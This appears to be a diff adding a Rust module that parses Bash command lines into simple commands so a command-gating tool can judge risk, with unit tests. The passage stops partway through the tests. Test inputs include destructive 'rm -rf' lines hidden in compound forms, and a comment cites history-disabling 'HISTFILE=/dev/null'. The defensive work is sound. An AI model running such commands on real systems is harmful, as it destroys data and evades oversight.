@@ -1,0 +1,1345 @@
+//! Shell analysis: turn a Bash command line into the simple commands it runs.
+//!
+//! Every simple command is found wherever it hides: lists (`&&`, `||`, `;`,
+//! `&`), pipelines, subshells, `{ ...; }`, `$(...)`, backticks, process
+//! substitution, here-docs fed to a shell, loops and functions, strings given
+//! to `bash -c`/`sh -c`/`su -c`/`eval` (parsed again, recursively), the
+//! command run by `xargs` and `find -exec`, and the command behind wrappers
+//! (`env`, `nice`, `timeout`, `nohup`, `sudo`, `command`, `builtin`, `exec`,
+//! `time`, ...). The wrapper itself is kept as a simple command of its own, so
+//! both `sudo` (privilege) and what it runs are judged.
+//!
+//! Whatever cannot be known before it runs (a command name built from a
+//! variable, `eval "$x"`, a shell reading a script from a pipe, a parse error)
+//! is recorded in [`Parsed::notes`] so the decision never auto-allows it.
+
+use crate::class::RiskClass;
+use crate::table;
+use std::sync::Mutex;
+use tree_sitter::{Node, Parser};
+
+/// How deep `bash -c "bash -c '...'"` may nest before cordon stops looking.
+const MAX_DEPTH: usize = 6;
+
+/// One word of a command, after quote removal.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Word {
+    /// The text; expansions keep their source text (`$x`, `$(cmd)`).
+    pub text: String,
+    /// True when part of it is only known at run time (variables, substitutions).
+    pub dynamic: bool,
+}
+
+impl Word {
+    fn lit(s: &str) -> Word {
+        Word {
+            text: s.to_string(),
+            dynamic: false,
+        }
+    }
+}
+
+/// A redirection of a simple command.
+#[derive(Clone, Debug)]
+pub struct Redirect {
+    /// `>`, `>>`, `>|`, `&>`: the target is written.
+    pub write: bool,
+    pub target: Word,
+}
+
+/// One simple command with its words and redirections.
+#[derive(Clone, Debug, Default)]
+pub struct SimpleCmd {
+    pub argv: Vec<Word>,
+    /// `NAME=value` assignments before the command name.
+    pub env: Vec<(String, Word)>,
+    pub redirects: Vec<Redirect>,
+    /// Its standard input comes from an earlier stage of a pipeline.
+    pub piped: bool,
+    /// Here-doc or here-string text given on standard input.
+    pub stdin_text: Option<String>,
+    /// The constructs it was found through (`bash -c`, `sudo`, `xargs`...), outermost first.
+    pub via: Vec<String>,
+    /// Extra arguments are appended at run time (`xargs`).
+    pub extra_args: bool,
+}
+
+impl SimpleCmd {
+    /// The command name without its directory (`/usr/bin/sudo` -> `sudo`).
+    pub fn name(&self) -> &str {
+        self.argv
+            .first()
+            .map(|w| w.text.rsplit('/').next().unwrap_or(&w.text))
+            .unwrap_or("")
+    }
+    /// The words joined by single spaces: what Bash rules are matched against.
+    pub fn text(&self) -> String {
+        let mut s = String::new();
+        for (i, w) in self.argv.iter().enumerate() {
+            if i > 0 {
+                s.push(' ');
+            }
+            s.push_str(&w.text);
+        }
+        s
+    }
+}
+
+/// Something about the command line that cannot be checked in advance.
+#[derive(Clone, Debug)]
+pub struct Note {
+    pub class: RiskClass,
+    pub text: String,
+}
+
+/// The result of analysing one command line.
+#[derive(Clone, Debug, Default)]
+pub struct Parsed {
+    pub cmds: Vec<SimpleCmd>,
+    pub notes: Vec<Note>,
+}
+
+impl Parsed {
+    fn note(&mut self, class: RiskClass, text: impl Into<String>) {
+        self.notes.push(Note {
+            class,
+            text: text.into(),
+        });
+    }
+}
+
+/// A reusable tree-sitter parser (creating one is cheap but not free).
+#[derive(Default)]
+pub struct ShellParser {
+    slot: Mutex<Option<Parser>>,
+}
+
+impl std::fmt::Debug for ShellParser {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.write_str("ShellParser")
+    }
+}
+
+impl ShellParser {
+    /// Analyse a command line.
+    pub fn analyse(&self, src: &str) -> Parsed {
+        let mut out = Parsed::default();
+        self.parse_into(src, 0, &[], &mut out);
+        out
+    }
+
+    fn parse_into(&self, src: &str, depth: usize, via: &[String], out: &mut Parsed) {
+        if depth > MAX_DEPTH {
+            out.note(
+                RiskClass::Opaque,
+                format!("shell strings nest more than {MAX_DEPTH} levels deep"),
+            );
+            return;
+        }
+        let start = out.cmds.len();
+        if let Some(cmds) = fast_lex(src) {
+            out.cmds.extend(cmds);
+        } else if is_plain(src) {
+            let mut cmd = SimpleCmd::default();
+            for word in src.split_whitespace() {
+                match word.split_once('=') {
+                    Some((name, value)) if cmd.argv.is_empty() && is_var_name(name) => {
+                        cmd.env.push((name.to_string(), Word::lit(value)))
+                    }
+                    _ => cmd.argv.push(Word::lit(word)),
+                }
+            }
+            if !cmd.argv.is_empty() || !cmd.env.is_empty() {
+                if cmd.argv.is_empty() {
+                    cmd.argv.push(Word::lit(":"));
+                }
+                out.cmds.push(cmd);
+            }
+        } else {
+            // Take the cached parser, or make one if another thread holds it.
+            let cached = self.slot.lock().ok().and_then(|mut g| g.take());
+            let mut parser = cached.unwrap_or_else(new_parser);
+            let tree = parser.parse(src, None);
+            if let Ok(mut g) = self.slot.lock() {
+                *g = Some(parser);
+            }
+            match tree {
+                Some(tree) => {
+                    let root = tree.root_node();
+                    if root.has_error() {
+                        out.note(
+                            RiskClass::Opaque,
+                            "the command does not parse as shell, so it cannot be checked",
+                        );
+                    }
+                    let mut w = Walker { src, out };
+                    w.visit(root, false, None);
+                }
+                None => out.note(RiskClass::Opaque, "the shell parser gave up"),
+            }
+        }
+        // Unwrap wrappers and recurse into shell strings for the new commands.
+        let raw: Vec<SimpleCmd> = out.cmds.drain(start..).collect();
+        for mut c in raw {
+            let mut v = via.to_vec();
+            v.append(&mut c.via);
+            c.via = v;
+            self.unwrap(c, depth, out);
+        }
+    }
+
+    /// Push `c`, then whatever it runs (wrappers, `-c` strings, `-exec`).
+    fn unwrap(&self, c: SimpleCmd, depth: usize, out: &mut Parsed) {
+        let name = c.name().to_string();
+        if c.argv.first().is_some_and(|w| w.dynamic) {
+            out.note(
+                RiskClass::Opaque,
+                format!(
+                    "the command name `{}` is only known at run time",
+                    c.argv[0].text
+                ),
+            );
+        }
+        let inner = inner_command(&name, &c);
+        let via_here = |label: &str| {
+            let mut v = c.via.clone();
+            v.push(label.to_string());
+            v
+        };
+        match inner {
+            Inner::None => {}
+            Inner::Argv { start, extra } => {
+                let sub = SimpleCmd {
+                    argv: c.argv[start..].to_vec(),
+                    env: Vec::new(),
+                    redirects: Vec::new(),
+                    piped: c.piped,
+                    stdin_text: c.stdin_text.clone(),
+                    via: via_here(&name),
+                    extra_args: extra || c.extra_args,
+                };
+                if !sub.argv.is_empty() {
+                    self.unwrap(sub, depth + 1, out);
+                }
+            }
+            Inner::Exec(ranges) => {
+                // `{}` stands for the files found below find's start path.
+                let root = c.argv[1..]
+                    .iter()
+                    .take_while(|w| !w.text.starts_with('-') && w.text != "(" && w.text != "!")
+                    .next()
+                    .cloned()
+                    .unwrap_or_else(|| Word::lit("."));
+                for (a, b) in ranges {
+                    let argv = c.argv[a..b]
+                        .iter()
+                        .map(|w| {
+                            if w.text.contains("{}") {
+                                Word {
+                                    text: w.text.replace(
+                                        "{}",
+                                        &format!("{}/*", root.text.trim_end_matches('/')),
+                                    ),
+                                    dynamic: w.dynamic || root.dynamic,
+                                }
+                            } else {
+                                w.clone()
+                            }
+                        })
+                        .collect();
+                    let sub = SimpleCmd {
+                        argv,
+                        via: via_here("find -exec"),
+                        ..SimpleCmd::default()
+                    };
+                    if !sub.argv.is_empty() {
+                        self.unwrap(sub, depth + 1, out);
+                    }
+                }
+            }
+            Inner::Script { text, label } => match text {
+                Some(w) if !w.dynamic => self.parse_into(&w.text, depth + 1, &via_here(label), out),
+                Some(w) => out.note(
+                    RiskClass::Opaque,
+                    format!("`{name}` runs a string built at run time ({})", w.text),
+                ),
+                None => out.note(
+                    RiskClass::Opaque,
+                    format!("`{name}` runs a script that cannot be read in advance"),
+                ),
+            },
+            Inner::Stdin => {
+                if let Some(t) = &c.stdin_text {
+                    let t = t.clone();
+                    self.parse_into(&t, depth + 1, &via_here("here-doc"), out);
+                }
+                // A shell reading a script from a pipe is judged in classify
+                // (remote code execution when the pipe carries a download).
+            }
+        }
+        out.cmds.push(c);
+    }
+}
+
+fn new_parser() -> Parser {
+    let mut p = Parser::new();
+    p.set_language(&tree_sitter_bash::LANGUAGE.into())
+        .expect("the bundled tree-sitter-bash grammar matches the tree-sitter version");
+    p
+}
+
+/// Reserved words that start compound commands: left to tree-sitter.
+const RESERVED: &[&str] = &[
+    "if", "then", "else", "elif", "fi", "for", "while", "until", "do", "done", "case", "esac",
+    "function", "select", "[[", "]]", "[", "!", "{", "}", "time", "coproc", "export", "declare",
+    "local", "readonly", "typeset", "unset",
+];
+
+/// A hand-written lexer for the common, simple subset of shell: words, single
+/// quotes, double quotes without expansions, backslash escapes, `|`, `||`,
+/// `&&`, `;`, `&` and plain redirections. Anything else (`$`, backticks,
+/// parentheses, braces other than `{}`, here-docs, newlines, comments,
+/// reserved words...) returns `None` and goes to tree-sitter. Skipping the
+/// parser for these lines is what keeps a decision in microseconds; a test
+/// checks both paths agree.
+fn fast_lex(src: &str) -> Option<Vec<SimpleCmd>> {
+    let b = src.as_bytes();
+    let mut cmds: Vec<SimpleCmd> = Vec::new();
+    let mut cur = SimpleCmd::default();
+    let mut words: Vec<Word> = Vec::new();
+    let mut i = 0;
+    let mut piped = false;
+    // Finish the current simple command.
+    fn finish(
+        words: &mut Vec<Word>,
+        cur: &mut SimpleCmd,
+        cmds: &mut Vec<SimpleCmd>,
+        piped: bool,
+    ) -> Option<()> {
+        let mut argv = Vec::new();
+        for w in words.drain(..) {
+            match w.text.split_once('=') {
+                Some((n, v)) if argv.is_empty() && is_var_name(n) && !w.dynamic => {
+                    cur.env.push((n.to_string(), Word::lit(v)))
+                }
+                _ => argv.push(w),
+            }
+        }
+        if argv.is_empty() && cur.env.is_empty() && cur.redirects.is_empty() {
+            return None; // empty command between operators: let tree-sitter judge
+        }
+        if let Some(first) = argv.first() {
+            if RESERVED.contains(&first.text.as_str()) {
+                return None;
+            }
+        } else {
+            argv.push(Word::lit(":"));
+        }
+        let mut c = std::mem::take(cur);
+        c.argv = argv;
+        c.piped = piped;
+        cmds.push(c);
+        Some(())
+    }
+    while i < b.len() {
+        match b[i] {
+            b' ' | b'\t' => i += 1,
+            b'|' | b';' | b'&' => {
+                let two = b.get(i + 1).copied();
+                let (op_len, next_piped) = match (b[i], two) {
+                    (b'|', Some(b'|')) | (b'&', Some(b'&')) => (2, false),
+                    (b'|', Some(b'&')) | (b';', Some(b';')) | (b'&', Some(b'>')) => return None,
+                    (b'|', _) => (1, true),
+                    _ => (1, false),
+                };
+                finish(&mut words, &mut cur, &mut cmds, piped)?;
+                piped = next_piped;
+                i += op_len;
+            }
+            b'>' | b'<' => {
+                // An fd number glued before the operator (`2>`).
+                if let Some(last) = words.last() {
+                    let glued = i > 0 && b[i - 1].is_ascii_digit();
+                    if glued && matches!(last.text.as_str(), "1" | "2") {
+                        words.pop();
+                    } else if glued {
+                        return None;
+                    }
+                }
+                let write = b[i] == b'>';
+                i += 1;
+                if b.get(i) == Some(&b'(') || (!write && b.get(i) == Some(&b'<')) {
+                    return None; // process substitution, here-doc
+                }
+                if write && matches!(b.get(i), Some(b'>') | Some(b'|')) {
+                    i += 1;
+                }
+                if b.get(i) == Some(&b'&') {
+                    // `>&2`, `2>&1`: duplicates a descriptor.
+                    i += 1;
+                    let s = i;
+                    while i < b.len() && (b[i].is_ascii_digit() || b[i] == b'-') {
+                        i += 1;
+                    }
+                    if i == s {
+                        return None;
+                    }
+                    continue;
+                }
+                while i < b.len() && (b[i] == b' ' || b[i] == b'\t') {
+                    i += 1;
+                }
+                let (w, n) = lex_word(&b[i..])?;
+                if w.text.is_empty() && n == 0 {
+                    return None;
+                }
+                i += n;
+                cur.redirects.push(Redirect { write, target: w });
+            }
+            _ => {
+                let (w, n) = lex_word(&b[i..])?;
+                if n == 0 {
+                    return None;
+                }
+                if w.text.starts_with('#') && !w.text.is_empty() {
+                    return None;
+                }
+                words.push(w);
+                i += n;
+            }
+        }
+    }
+    if !words.is_empty() || !cur.env.is_empty() || !cur.redirects.is_empty() {
+        finish(&mut words, &mut cur, &mut cmds, piped)?;
+    } else if !cmds.is_empty()
+        && (src.trim_end().ends_with('|')
+            || src.trim_end().ends_with("&&")
+            || src.trim_end().ends_with("||"))
+    {
+        return None;
+    }
+    Some(cmds)
+}
+
+/// One word of the fast lexer: its text and the bytes consumed.
+fn lex_word(b: &[u8]) -> Option<(Word, usize)> {
+    let mut out: Vec<u8> = Vec::new();
+    let mut i = 0;
+    while i < b.len() {
+        match b[i] {
+            b' ' | b'\t' | b'|' | b';' | b'&' | b'>' | b'<' => break,
+            b'$' | b'`' | b'(' | b')' | b'!' | b'\n' | b'\r' => return None,
+            b'{' | b'}' => {
+                let whole = out.is_empty()
+                    && b.get(i + 2)
+                        .is_none_or(|c| matches!(c, b' ' | b'\t' | b';' | b'|' | b'&'));
+                if b[i] == b'{' && b.get(i + 1) == Some(&b'}') && whole {
+                    out.extend_from_slice(b"{}");
+                    i += 2;
+                } else {
+                    return None;
+                }
+            }
+            b'\\' => {
+                let n = *b.get(i + 1)?;
+                // Only a whole-word escape (`\;`, `\(`): tree-sitter splits
+                // words at escapes inside them differently from bash.
+                if i > 0 || matches!(n, b' ' | b'\t') {
+                    return None;
+                }
+                if n == b'\n' || n == b'\r' {
+                    return None;
+                }
+                out.push(n);
+                i += 2;
+            }
+            b'\'' => {
+                let end = b[i + 1..].iter().position(|&c| c == b'\'')?;
+                out.extend_from_slice(&b[i + 1..i + 1 + end]);
+                i += end + 2;
+            }
+            b'"' => {
+                let end = b[i + 1..].iter().position(|&c| c == b'"')?;
+                let inner = &b[i + 1..i + 1 + end];
+                if inner
+                    .iter()
+                    .any(|c| matches!(c, b'$' | b'`' | b'\\' | b'!' | b'\n'))
+                {
+                    return None;
+                }
+                out.extend_from_slice(inner);
+                i += end + 2;
+            }
+            c => {
+                out.push(c);
+                i += 1;
+            }
+        }
+    }
+    let text = String::from_utf8(out).ok()?;
+    Some((
+        Word {
+            text,
+            dynamic: false,
+        },
+        i,
+    ))
+}
+
+fn is_var_name(s: &str) -> bool {
+    !s.is_empty()
+        && !s.starts_with(|c: char| c.is_ascii_digit())
+        && s.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
+}
+
+/// A line with no shell syntax at all is one simple command split on blanks.
+fn is_plain(src: &str) -> bool {
+    !src.is_empty()
+        && src.bytes().all(|b| {
+            b.is_ascii_alphanumeric()
+                || matches!(
+                    b,
+                    b' ' | b'\t'
+                        | b'-'
+                        | b'_'
+                        | b'.'
+                        | b'/'
+                        | b'='
+                        | b':'
+                        | b','
+                        | b'@'
+                        | b'%'
+                        | b'+'
+                )
+        })
+}
+
+/// What a command runs in turn.
+enum Inner {
+    None,
+    /// `argv[start..]` is a command of its own; `extra` when args are appended at run time.
+    Argv {
+        start: usize,
+        extra: bool,
+    },
+    /// `find -exec` commands: `argv[a..b]` each.
+    Exec(Vec<(usize, usize)>),
+    /// A shell string (`-c`, `eval`); `None` when it is a file or missing.
+    Script {
+        text: Option<Word>,
+        label: &'static str,
+    },
+    /// A shell reading its script from standard input.
+    Stdin,
+}
+
+fn inner_command(name: &str, c: &SimpleCmd) -> Inner {
+    let args = &c.argv;
+    if let Some(w) = table::wrapper(name) {
+        // Skip the wrapper's own options, then `skip` positional words.
+        let mut i = 1;
+        let mut skipped = 0;
+        while i < args.len() {
+            let a = &args[i].text;
+            if a == "--" {
+                i += 1;
+                break;
+            }
+            if w.assignments && a.contains('=') && !a.starts_with('-') {
+                i += 1;
+                continue;
+            }
+            if a.starts_with('-') && a.len() > 1 && !w.no_options {
+                if w.script_flag.is_some_and(|f| f == a) {
+                    return Inner::Script {
+                        text: args.get(i + 1).cloned(),
+                        label: w.name,
+                    };
+                }
+                let takes = w.value_flags.iter().any(|f| f == a);
+                i += if takes { 2 } else { 1 };
+                continue;
+            }
+            if skipped < w.skip {
+                skipped += 1;
+                i += 1;
+                continue;
+            }
+            break;
+        }
+        if i < args.len() {
+            return Inner::Argv {
+                start: i,
+                extra: w.appends,
+            };
+        }
+        return Inner::None;
+    }
+    match name {
+        "bash" | "sh" | "zsh" | "dash" | "ksh" | "ash" | "mksh" | "fish" => {
+            let mut i = 1;
+            while i < args.len() {
+                let a = &args[i].text;
+                if a == "-c" || (a.starts_with('-') && !a.starts_with("--") && a.contains('c')) {
+                    return Inner::Script {
+                        text: args.get(i + 1).cloned(),
+                        label: "sh -c",
+                    };
+                }
+                if a == "-o" || a == "-O" || a == "--rcfile" || a == "--init-file" {
+                    i += 2;
+                    continue;
+                }
+                if a.starts_with('-') || a.starts_with('+') {
+                    i += 1;
+                    continue;
+                }
+                // A script file (or process substitution): runs code.
+                return Inner::None;
+            }
+            Inner::Stdin
+        }
+        "eval" => {
+            let dynamic = args[1..].iter().any(|w| w.dynamic);
+            let text = args[1..]
+                .iter()
+                .map(|w| w.text.as_str())
+                .collect::<Vec<_>>()
+                .join(" ");
+            Inner::Script {
+                text: Some(Word { text, dynamic }),
+                label: "eval",
+            }
+        }
+        "trap" => match args.get(1) {
+            Some(h) if !h.text.starts_with('-') && args.len() > 2 => Inner::Script {
+                text: Some(h.clone()),
+                label: "trap",
+            },
+            _ => Inner::None,
+        },
+        "su" => {
+            let i = args
+                .iter()
+                .position(|w| w.text == "-c" || w.text == "--command");
+            match i {
+                Some(i) => Inner::Script {
+                    text: args.get(i + 1).cloned(),
+                    label: "su -c",
+                },
+                None => Inner::None,
+            }
+        }
+        "find" => {
+            let mut ranges = Vec::new();
+            let mut i = 1;
+            while i < args.len() {
+                if matches!(
+                    args[i].text.as_str(),
+                    "-exec" | "-execdir" | "-ok" | "-okdir"
+                ) {
+                    let a = i + 1;
+                    let mut b = a;
+                    while b < args.len() && args[b].text != ";" && args[b].text != "+" {
+                        b += 1;
+                    }
+                    ranges.push((a, b));
+                    i = b + 1;
+                } else {
+                    i += 1;
+                }
+            }
+            if ranges.is_empty() {
+                Inner::None
+            } else {
+                Inner::Exec(ranges)
+            }
+        }
+        "watch" => {
+            // watch joins its arguments into a `sh -c` string.
+            let mut i = 1;
+            while i < args.len() && args[i].text.starts_with('-') {
+                let takes = matches!(args[i].text.as_str(), "-n" | "--interval" | "-d");
+                i += if takes && args[i].text != "-d" { 2 } else { 1 };
+            }
+            if i >= args.len() {
+                return Inner::None;
+            }
+            let dynamic = args[i..].iter().any(|w| w.dynamic);
+            let text = args[i..]
+                .iter()
+                .map(|w| w.text.as_str())
+                .collect::<Vec<_>>()
+                .join(" ");
+            Inner::Script {
+                text: Some(Word { text, dynamic }),
+                label: "watch",
+            }
+        }
+        _ => Inner::None,
+    }
+}
+
+/// Redirections (and the words tree-sitter attaches to them) of an enclosing
+/// `redirected_statement`.
+#[derive(Default)]
+struct Outer {
+    reds: Vec<Redirect>,
+    stdin: Option<String>,
+    /// `echo a > f b`: tree-sitter hangs `b` on the redirect; it is an argument.
+    extra: Vec<Word>,
+}
+
+/// Walks a tree-sitter tree and collects simple commands.
+struct Walker<'a> {
+    src: &'a str,
+    out: &'a mut Parsed,
+}
+
+impl Walker<'_> {
+    fn text(&self, n: Node) -> &str {
+        &self.src[n.byte_range()]
+    }
+
+    /// `redirects`: redirections of an enclosing `redirected_statement`.
+    fn visit(&mut self, n: Node, piped: bool, redirects: Option<Outer>) {
+        match n.kind() {
+            "command" => {
+                self.command(n, piped, redirects);
+                return;
+            }
+            "redirected_statement" => {
+                let mut o = Outer::default();
+                let mut cur = n.walk();
+                for ch in n.children(&mut cur) {
+                    self.redirect(ch, &mut o);
+                }
+                let body = n.child_by_field_name("body");
+                match body {
+                    Some(b) if b.kind() == "command" => {
+                        self.command(b, piped, Some(o));
+                    }
+                    Some(b)
+                        if matches!(b.kind(), "pipeline" | "list") && b.named_child_count() > 0 =>
+                    {
+                        // `a | b > f`: the redirection belongs to the last stage.
+                        self.visit(b, piped, Some(o));
+                    }
+                    other => {
+                        if !o.reds.is_empty() || !o.extra.is_empty() {
+                            // Redirection of a compound statement: record its writes.
+                            let mut argv = vec![Word::lit(":")];
+                            argv.extend(o.extra);
+                            self.out.cmds.push(SimpleCmd {
+                                argv,
+                                redirects: o.reds,
+                                ..SimpleCmd::default()
+                            });
+                        }
+                        if let Some(b) = other {
+                            self.visit(b, piped, None);
+                        }
+                    }
+                }
+                // Substitutions inside redirect targets and here-docs.
+                let mut cur = n.walk();
+                for ch in n.children(&mut cur) {
+                    if Some(ch) != body {
+                        self.descend(ch);
+                    }
+                }
+                return;
+            }
+            "pipeline" | "list" => {
+                let pipe = n.kind() == "pipeline";
+                let mut redirects = redirects;
+                let last = n.named_child_count().saturating_sub(1);
+                let mut cur = n.walk();
+                for (idx, ch) in n.named_children(&mut cur).enumerate() {
+                    let r = if idx == last { redirects.take() } else { None };
+                    match r {
+                        Some(r) if ch.kind() != "command" && !r.reds.is_empty() => {
+                            let mut argv = vec![Word::lit(":")];
+                            argv.extend(r.extra);
+                            self.out.cmds.push(SimpleCmd {
+                                argv,
+                                redirects: r.reds,
+                                ..SimpleCmd::default()
+                            });
+                            self.visit(ch, piped || (pipe && idx > 0), None);
+                        }
+                        r => self.visit(ch, piped || (pipe && idx > 0), r),
+                    }
+                }
+                return;
+            }
+            "variable_assignment" if n.parent().is_some_and(|p| p.kind() == "command") => {}
+            "variable_assignment" => {
+                // A bare assignment (`HISTFILE=/dev/null`) changes the shell itself.
+                let name = n
+                    .child_by_field_name("name")
+                    .map(|x| self.text(x).to_string())
+                    .unwrap_or_default();
+                let value = n
+                    .child_by_field_name("value")
+                    .map(|v| self.word(v))
+                    .unwrap_or_else(|| Word::lit(""));
+                self.out.cmds.push(SimpleCmd {
+                    argv: vec![Word::lit(":")],
+                    env: vec![(name, value)],
+                    ..SimpleCmd::default()
+                });
+                self.descend(n);
+                return;
+            }
+            "command_substitution" | "process_substitution" => {
+                let mut cur = n.walk();
+                for ch in n.named_children(&mut cur) {
+                    self.visit(ch, false, None);
+                }
+                return;
+            }
+            _ => {}
+        }
+        let _ = redirects;
+        let mut cur = n.walk();
+        for ch in n.named_children(&mut cur) {
+            self.visit(ch, piped, None);
+        }
+    }
+
+    /// Visit everything below `n` looking for commands (in substitutions).
+    fn descend(&mut self, n: Node) {
+        let mut cur = n.walk();
+        for ch in n.named_children(&mut cur) {
+            self.visit(ch, false, None);
+        }
+    }
+
+    fn redirect(&mut self, ch: Node, o: &mut Outer) {
+        match ch.kind() {
+            "file_redirect" => {
+                let op = {
+                    let mut cur = ch.walk();
+                    let ops: Vec<&str> = ch
+                        .children(&mut cur)
+                        .filter(|c| !c.is_named())
+                        .map(|c| self.text(c))
+                        .collect();
+                    ops.join("")
+                };
+                let mut cur = ch.walk();
+                let dests: Vec<Node> = ch.children_by_field_name("destination", &mut cur).collect();
+                for extra in dests.iter().skip(1) {
+                    o.extra.push(self.word(*extra));
+                }
+                if let Some(&d) = dests.first() {
+                    let target = self.word(d);
+                    let write = op.contains('>') && !op.contains(">&") || op == "&>" || op == "&>>";
+                    // `2>&1` and `>&2` duplicate descriptors: nothing is written.
+                    let dup = target.text.chars().all(|c| c.is_ascii_digit() || c == '-');
+                    if !(op.contains('&') && dup && op != "&>" && op != "&>>") {
+                        o.reds.push(Redirect {
+                            write: write || (op.contains('>') && !dup),
+                            target,
+                        });
+                    }
+                }
+            }
+            "heredoc_redirect" => {
+                let mut cur = ch.walk();
+                for c in ch.named_children(&mut cur) {
+                    if c.kind() == "heredoc_body" {
+                        o.stdin = Some(self.text(c).to_string());
+                    }
+                }
+                // `cat <<EOF > file`: the write redirect sits inside here.
+                let mut cur = ch.walk();
+                for c in ch.named_children(&mut cur) {
+                    if c.kind() == "file_redirect" {
+                        self.redirect(c, o);
+                    }
+                }
+            }
+            "herestring_redirect" => {
+                if let Some(c) = ch.named_child(0) {
+                    let w = self.word(c);
+                    if !w.dynamic {
+                        o.stdin = Some(w.text);
+                    } else {
+                        o.stdin = Some(format!("{} {}", "$", w.text));
+                    }
+                }
+            }
+            _ => {}
+        }
+    }
+
+    fn command(&mut self, n: Node, piped: bool, outer: Option<Outer>) {
+        let mut o = outer.unwrap_or_default();
+        let mut cmd = SimpleCmd {
+            piped,
+            ..SimpleCmd::default()
+        };
+        let mut cur = n.walk();
+        for ch in n.named_children(&mut cur) {
+            match ch.kind() {
+                "variable_assignment" => {
+                    let name = ch
+                        .child_by_field_name("name")
+                        .map(|x| self.text(x).to_string())
+                        .unwrap_or_default();
+                    let value = ch
+                        .child_by_field_name("value")
+                        .map(|v| self.word(v))
+                        .unwrap_or_else(|| Word::lit(""));
+                    cmd.env.push((name, value));
+                }
+                "command_name" => {
+                    let w = ch
+                        .named_child(0)
+                        .map(|x| self.word(x))
+                        .unwrap_or_else(|| Word::lit(self.text(ch)));
+                    cmd.argv.push(w);
+                }
+                "file_redirect" | "heredoc_redirect" | "herestring_redirect" => {
+                    self.redirect(ch, &mut o);
+                }
+                "comment" => {}
+                _ => cmd.argv.push(self.word(ch)),
+            }
+        }
+        cmd.argv.append(&mut o.extra);
+        cmd.redirects = o.reds;
+        cmd.stdin_text = o.stdin;
+        if !cmd.argv.is_empty() || !cmd.redirects.is_empty() {
+            if cmd.argv.is_empty() {
+                cmd.argv.push(Word::lit(":"));
+            }
+            self.out.cmds.push(cmd);
+        }
+        // Commands inside substitutions in the words.
+        self.descend(n);
+    }
+
+    /// Quote removal for one word node.
+    fn word(&self, n: Node) -> Word {
+        let raw = self.text(n);
+        match n.kind() {
+            "word" | "number" => Word {
+                text: unescape_bare(raw),
+                dynamic: false,
+            },
+            "raw_string" => Word::lit(raw.trim_start_matches('\'').trim_end_matches('\'')),
+            "ansi_c_string" => match decode_ansi_c(raw) {
+                Some(t) => Word::lit(&t),
+                None => Word {
+                    text: raw.to_string(),
+                    dynamic: true,
+                },
+            },
+            "string" | "translated_string" => {
+                let mut w = Word::lit("");
+                let mut cur = n.walk();
+                let mut any = false;
+                for ch in n.named_children(&mut cur) {
+                    any = true;
+                    let part = self.word(ch);
+                    w.dynamic |= part.dynamic;
+                    w.text.push_str(&part.text);
+                }
+                if !any {
+                    // Empty string, or content without named nodes.
+                    let inner = raw.trim_start_matches('$');
+                    let inner = inner.strip_prefix('"').unwrap_or(inner);
+                    let inner = inner.strip_suffix('"').unwrap_or(inner);
+                    w.text = unescape_dq(inner);
+                }
+                w
+            }
+            "string_content" => Word::lit(&unescape_dq(raw)),
+            "concatenation" => {
+                let mut w = Word::lit("");
+                let mut cur = n.walk();
+                for ch in n.children(&mut cur) {
+                    let part = self.word(ch);
+                    w.dynamic |= part.dynamic;
+                    w.text.push_str(&part.text);
+                }
+                w
+            }
+            "simple_expansion" | "expansion" => {
+                if matches!(raw, "$HOME" | "${HOME}") {
+                    Word::lit("~")
+                } else {
+                    Word {
+                        text: raw.to_string(),
+                        dynamic: true,
+                    }
+                }
+            }
+            "brace_expression" => Word::lit(raw),
+            _ => Word {
+                text: raw.to_string(),
+                dynamic: true,
+            },
+        }
+    }
+}
+
+fn unescape_bare(s: &str) -> String {
+    if !s.contains('\\') {
+        return s.to_string();
+    }
+    let mut out = String::with_capacity(s.len());
+    let mut it = s.chars();
+    while let Some(c) = it.next() {
+        if c == '\\' {
+            if let Some(n) = it.next() {
+                if n != '\n' {
+                    out.push(n);
+                }
+            }
+        } else {
+            out.push(c);
+        }
+    }
+    out
+}
+
+fn unescape_dq(s: &str) -> String {
+    if !s.contains('\\') {
+        return s.to_string();
+    }
+    let mut out = String::with_capacity(s.len());
+    let mut it = s.chars().peekable();
+    while let Some(c) = it.next() {
+        if c == '\\' {
+            match it.peek() {
+                Some(&n) if matches!(n, '"' | '\\' | '$' | '`') => {
+                    out.push(n);
+                    it.next();
+                }
+                Some('\n') => {
+                    it.next();
+                }
+                _ => out.push(c),
+            }
+        } else {
+            out.push(c);
+        }
+    }
+    out
+}
+
+/// Decode `$'...'`; `None` for escapes cordon does not decode.
+fn decode_ansi_c(raw: &str) -> Option<String> {
+    let body = raw.strip_prefix("$'")?.strip_suffix('\'')?;
+    let b = body.as_bytes();
+    let mut out = Vec::with_capacity(b.len());
+    let mut i = 0;
+    while i < b.len() {
+        if b[i] != b'\\' {
+            out.push(b[i]);
+            i += 1;
+            continue;
+        }
+        let e = *b.get(i + 1)?;
+        i += 2;
+        match e {
+            b'n' => out.push(b'\n'),
+            b't' => out.push(b'\t'),
+            b'r' => out.push(b'\r'),
+            b'\\' | b'\'' | b'"' | b'?' => out.push(e),
+            b'x' => {
+                let mut v = 0u32;
+                let mut k = 0;
+                while k < 2 && i < b.len() && b[i].is_ascii_hexdigit() {
+                    v = v * 16 + (b[i] as char).to_digit(16)?;
+                    i += 1;
+                    k += 1;
+                }
+                if k == 0 {
+                    return None;
+                }
+                out.push(v as u8);
+            }
+            b'0'..=b'7' => {
+                let mut v = (e - b'0') as u32;
+                let mut k = 1;
+                while k < 3 && i < b.len() && (b'0'..=b'7').contains(&b[i]) {
+                    v = v * 8 + (b[i] - b'0') as u32;
+                    i += 1;
+                    k += 1;
+                }
+                out.push(v as u8);
+            }
+            _ => return None,
+        }
+    }
+    String::from_utf8(out).ok()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn names(src: &str) -> Vec<String> {
+        let p = ShellParser::default().analyse(src);
+        let mut v: Vec<String> = p.cmds.iter().map(|c| c.text()).collect();
+        v.sort();
+        v
+    }
+
+    fn has(src: &str, want: &str) {
+        let got = names(src);
+        assert!(
+            got.iter().any(|t| t == want),
+            "{src:?}: {got:?} lacks {want:?}"
+        );
+    }
+
+    #[test]
+    fn every_compound_form_exposes_the_inner_command() {
+        let forms = [
+            "ls && rm -rf x",
+            "ls || rm -rf x",
+            "ls; rm -rf x",
+            "ls | rm -rf x",
+            "ls & rm -rf x",
+            "(rm -rf x)",
